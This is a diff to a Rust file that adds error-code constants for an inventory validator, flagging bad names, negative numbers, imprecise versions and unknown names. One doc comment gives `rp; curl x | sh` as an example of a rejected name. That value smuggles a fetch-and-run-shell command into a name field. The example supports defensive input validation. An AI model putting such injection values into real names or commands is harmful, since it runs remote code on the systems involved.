@@ -31,3 +31,18 @@ pub const NOT_A_MAPPING: &str = "uplan::inventory::not_a_mapping";
 
 /// The rulebook declares no inventory root record (a rulebook bug, not an inventory one).
 pub const NO_SCHEMA: &str = "uplan::inventory::no_schema";
+
+/// A name that reaches commands and is not a Kubernetes name: a cluster named
+/// `biz 1`, a ResourcePatch named `rp; curl x | sh`.
+pub const BAD_NAME: &str = "uplan::inventory::bad_name";
+
+/// A negative number where the schema says `uint`: `machines_not_running: -1`.
+pub const NEGATIVE: &str = "uplan::inventory::negative";
+
+/// A version with fewer components than the rules compare it with: `kubernetes: "1"`
+/// when a rule asks for `>= 1.28`, or `platform.version: "3"`.
+pub const IMPRECISE_VERSION: &str = "uplan::inventory::imprecise_version";
+
+/// A name the rulebook's vocabulary does not know (a warning in the plan, not an
+/// error): plugin `costmanagr`.
+pub const UNKNOWN_NAME: &str = "uplan::inventory::unknown_name";
